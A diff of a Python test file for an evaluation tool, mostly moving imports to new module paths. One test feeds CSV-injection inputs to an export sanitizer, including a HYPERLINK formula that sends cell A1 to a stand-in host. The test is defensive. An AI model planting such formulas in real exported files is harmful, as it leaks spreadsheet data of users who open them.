@@ -240,7 +240,7 @@ def test_an_export_into_a_missing_folder_makes_it_and_an_unwritable_path_is_name
     written (here: under a file) is named, a ConfigError (exit 2)."""
     from ragassay.errors import ConfigError
     from ragassay.judge.calibration.labels import export_sample
-    from ragassay.store.schemas import JUDGE_LABELS
+    from ragassay.store.judge_schemas import JUDGE_LABELS
 
     target = tmp_path / "new" / "folders" / "sample.jsonl"
     assert export_sample([], target, JUDGE_LABELS.empty()) == 0 and target.is_file()
@@ -286,7 +286,8 @@ def test_a_recall_curve_with_nothing_scored_says_so_without_a_legend_warning(rec
 def test_an_index_build_whose_collection_was_deleted_swaps_nothing_in(tmp_path):
     """Issue 37 case 1, the same class for the index: a build whose collection was deleted while
     it ran finds its staging folder gone, says so, and does not recreate the collection."""
-    from ragassay.index.build import staging_folder, swap_in_index
+    from ragassay.index.build import swap_in_index
+    from ragassay.index.inputs import staging_folder
 
     home = tmp_path / "home"
     ingest(home, "c", (_notes(tmp_path / "corpus", 3, "n"),))
@@ -309,7 +310,7 @@ def test_an_exported_csv_never_starts_a_cell_with_a_formula_and_reads_back_the_s
     from ragassay.judge.calibration.labels import export_sample
     from ragassay.judge.calibration.labels.files import read_label_file
     from ragassay.judge.calibration.labels.sample import SampleItem, sample_id_of
-    from ragassay.store.schemas import JUDGE_LABELS
+    from ragassay.store.judge_schemas import JUDGE_LABELS
 
     hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 bees", "-2 hives", "@SUM(A1:A9)", "'quoted", "\tTab"]
     items = [
